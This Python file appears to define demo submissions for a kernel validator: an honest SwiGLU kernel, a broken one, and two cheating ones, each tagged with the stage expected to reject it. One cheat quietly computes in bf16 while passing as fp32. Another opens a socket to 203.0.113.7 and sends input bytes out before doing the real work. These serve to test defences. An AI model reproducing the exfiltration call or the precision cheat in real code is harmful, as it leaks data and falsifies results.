"""The demo's miners: what each commits (the template from `hotfloat new`, with a broken or cheating kernel swapped
in) and the stage where the validator is expected to stop it."""

from __future__ import annotations

from dataclasses import dataclass

from ..authoring.template import bundle_files
from ..bundle import bundle_from_files, pack

ROW_BLOCKS = """\
\"\"\"SwiGLU gate in blocks of rows through one fp32 scratch buffer: sigmoid, then two in-place multiplies, so no
block allocates more than its scratch.\"\"\"

import torch

ROWS = 64


def _gate_block(x, out, lo, hi, d, scratch):
    gate = x[lo:hi, :d].float()
    buf = scratch[: hi - lo]
    torch.sigmoid(gate, out=buf)
    buf.mul_(gate).mul_(x[lo:hi, d:].float())
    out[lo:hi].copy_(buf)


def silu_and_mul(x, out):
    rows, d = x.shape[0], out.shape[-1]
    if rows == 0 or d == 0:
        return None
    scratch = torch.empty((min(rows, ROWS), d), dtype=torch.float32, device=x.device)
    for lo in range(0, rows, ROWS):
        _gate_block(x, out, lo, min(lo + ROWS, rows), d, scratch)
    return None
"""
BROKEN = """\
\"\"\"Forgets the up projection: returns silu(gate) instead of silu(gate) * up.\"\"\"

import torch


def silu_and_mul(x, out):
    d = out.shape[-1]
    out.copy_(torch.nn.functional.silu(x[:, :d].float()))
"""
DOWNGRADE = """\
\"\"\"Cheat: computes in bf16 whatever dtype was asked for (twice as fast on a GPU, wrong in fp32).\"\"\"

import torch


def silu_and_mul(x, out):
    d = out.shape[-1]
    xb = x.to(torch.bfloat16)
    out.copy_(torch.nn.functional.silu(xb[:, :d]) * xb[:, d:])
"""
EXFILTRATE = """\
\"\"\"Cheat: phones home with whatever it can read, then does the honest work.\"\"\"

import socket

import torch


def silu_and_mul(x, out):
    socket.create_connection(("203.0.113.7", 443), timeout=1).sendall(x.numpy().tobytes()[:64])
    d = out.shape[-1]
    out.copy_(torch.nn.functional.silu(x[:, :d].float()) * x[:, d:].float())
"""


@dataclass(frozen=True)
class Miner:
    """One demo miner: what it commits, and where the validator is expected to stop it (None: it is scored)."""

    name: str
    role: str
    kernel: str | None
    """Kernel source replacing the template's (None: the template from `hotfloat new` as written)."""
    expected_stage: str | None
    """The stage expected to FAIL it, or None when it should pass admission and reach qualification."""


MINERS = (
    Miner("alice", "honest: its own row-blocked kernel", ROW_BLOCKS, None),
    Miner("bob", "broken: forgets the up projection", BROKEN, "admit"),
    Miner("carol", "cheating: bf16 math passed off as fp32", DOWNGRADE, "admit"),
    Miner("dave", "cheating: sends inputs over the network", EXFILTRATE, "scan"),
)


def bundle_of(miner: Miner) -> tuple[str, bytes]:
    """The miner's identity and deterministic archive: the template, with the miner's kernel swapped in."""
    files = {k: v.encode() for k, v in bundle_files("activation.silu_and_mul", f"{miner.name}-silu").items()}
    if miner.kernel is not None:
        files["kernels/silu_and_mul.py"] = miner.kernel.encode()
    bundle = bundle_from_files(files)
    return bundle.identity, pack(bundle)
